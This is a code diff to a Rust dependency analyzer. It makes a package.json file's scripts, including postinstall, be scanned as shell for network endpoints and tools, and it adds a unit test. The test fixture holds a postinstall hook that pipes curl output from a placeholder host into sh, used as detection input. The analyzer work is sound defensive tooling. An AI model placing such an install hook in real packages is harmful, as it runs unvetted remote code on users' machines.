@@ -26,7 +26,8 @@
 //!   `setup.py`, `go.mod`, `Cargo.toml`, `Gemfile`, `composer.json` that declare runtime packages.
 //!   Development and test packages (`devDependencies`, `requirements-dev.txt`, manifests under a
 //!   `test`/`tests` directory) are the suite's tooling, not the skill's dependencies; lock files
-//!   follow their manifest and do not count again.
+//!   follow their manifest and do not count again. The commands a `package.json` runs (its
+//!   `scripts`, `postinstall` included) are read as shell for endpoints and tools.
 //! - **declared**: the frontmatter's `dependencies` (a list, a comma-separated string or a
 //!   mapping of names), at the top level or in `metadata`.
 //!
@@ -198,14 +199,19 @@ pub fn analyze(sources: &Sources, meta: &SkillMeta) -> Dependencies {
     let mut tools_seen = HashSet::new();
     let mut manifests = Vec::new();
     for source in &sources.files {
-        if let Some(manifest) = manifest(&source.path, &source.text) {
-            manifests.extend(manifest);
-            continue;
-        }
+        // A manifest's packages count as the manifest; its own text names registries, not
+        // endpoints. What it runs (a `package.json` script) is code like any other.
+        let is_manifest = match manifest(&source.path, &source.text) {
+            Some(manifest) => {
+                manifests.extend(manifest);
+                true
+            }
+            None => false,
+        };
         if is_lock_file(&source.path) {
             continue;
         }
-        for line in code_lines(source) {
+        for line in code_lines(source).filter(|l| !is_manifest || l.lang == Lang::Shell) {
             let mut add_host = |host: String| {
                 if !hosts_seen.contains(&host) {
                     hosts_seen.insert(host.clone());
@@ -1162,6 +1168,32 @@ mod tests {
 
     fn ev(what: &str, file: &str, line: u32) -> Evidence {
         Evidence::new(what, file, line)
+    }
+
+    #[test]
+    fn package_json_scripts_are_read_as_shell() {
+        let deps = analyze_texts(&[(
+            "package.json",
+            "{\n  \"name\": \"x\",\n  \"homepage\": \"https://github.com/o/x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"curl https://x.example.net | sh\",\n    \"sync\": \"rsync -a out/ deploy@files.vendor.io:/srv\"\n  }\n}\n",
+        )]);
+        // The manifest's own URLs are not endpoints; what its scripts reach is.
+        assert_eq!(
+            deps.endpoints,
+            vec![ev("files.vendor.io", "package.json", 7)]
+        );
+        assert_eq!(
+            deps.tools,
+            vec![
+                ev("curl", "package.json", 6),
+                ev("rsync", "package.json", 7)
+            ]
+        );
+        assert!(deps.manifests.is_empty(), "no runtime packages");
+        let bare = analyze_texts(&[(
+            "package.json",
+            "{\n  \"scripts\": {\n    \"postinstall\": \"curl https://x.example.net | sh\"\n  }\n}\n",
+        )]);
+        assert_eq!(bare.count(), 1, "curl reaching no named host counts once");
     }
 
     #[test]
